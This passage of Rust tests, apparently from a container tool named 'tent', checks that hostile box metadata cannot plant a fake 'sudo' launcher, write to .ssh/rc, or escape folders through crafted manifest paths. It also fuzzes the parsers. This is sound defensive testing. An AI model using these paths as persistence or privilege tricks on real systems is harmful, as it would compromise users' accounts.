        assert!(text.contains("writes command /home/u/.local/bin/sudo"), "{text}");
        // A command the file put elsewhere goes into the user's bin folder only.
        assert!(text.contains("writes command /home/u/.local/bin/rc") && text.contains("another folder"), "{text}");
        assert!(!text.contains(".ssh/rc"), "{text}");
        assert!(plan.exports.iter().all(|e| e.kind != Kind::Bin || e.dir.as_deref() == Some(bin_dir)));
        assert!(text.contains("dev's own launcher"), "{text}");
        let refused = plan.refused.join("\n");
        assert!(refused.contains("\"tent\"") && refused.contains("'/'"), "{refused}");
        assert_eq!(plan.exports.len(), 3, "{:?}", plan.exports);
        // A plain box asks for nothing.
        let plain =
            BoxFile { spec: BoxSpec { image: "x".into(), ..Default::default() }, exports: vec![], ..hostile_meta() };
        assert_eq!(LoadPlan::new(&plain, "dev", bin_dir), LoadPlan::default());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

        #[test]
        fn metadata_parsers_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
            let _ = parse_meta(&bytes);
            let _ = parse_manifest(&bytes);
        }

        #[test]
        fn manifests_with_hostile_paths_never_escape(config in "[./a-z-]{0,12}", n in 0usize..3) {
            let list: Vec<_> = (0..n).map(|_| serde_json::json!({"Config": config})).collect();
            let bytes = serde_json::to_vec(&list).unwrap();
            if let Ok((_, path)) = parse_manifest(&bytes) {
                proptest::prop_assert_eq!(n, 1);
                proptest::prop_assert!(!path.split('/').any(|p| p == ".." || p == "." || p.is_empty()), "{}", path);
            }
        }

        /// What `tent save` writes is read back as it was; and the plan of
        /// any file lists every hook and command it would make.
        #[test]
        fn written_metadata_round_trips(name in "[ -~]{0,20}", image in "[ -~]{1,30}", hook in "\\PC{0,30}",
                                        export in "[ -~]{0,12}") {
            let meta = BoxFile {
                box_name: name,
                image,
                spec: BoxSpec { image: "x".into(), start_hooks: vec![hook], ..Default::default() },
                exports: vec![Export { name: export, ..hostile_meta().exports[0].clone() }],
                ..hostile_meta()
            };
            let json = serde_json::to_vec_pretty(&meta).unwrap();
            proptest::prop_assert_eq!(parse_meta(&json).unwrap(), meta.clone());
            let plan = LoadPlan::new(&meta, "dev", Path::new("/b"));
            proptest::prop_assert_eq!(plan.exports.len() + plan.refused.len(), 1);
            proptest::prop_assert!(plan.asks.iter().all(|l| crate::output::sanitize(l) == l.as_str()));
        }
    }

    #[test]
    fn meta_versions() {
        assert_eq!(parse_meta(br#"{"format":2}"#).unwrap_err(), MetaError::Newer(2));
        assert!(matches!(parse_meta(b"nope"), Err(MetaError::Bad(_))));
        assert!(matches!(parse_meta(br#"{"format":1,"box":"d"}"#), Err(MetaError::Bad(_))));
    }
}
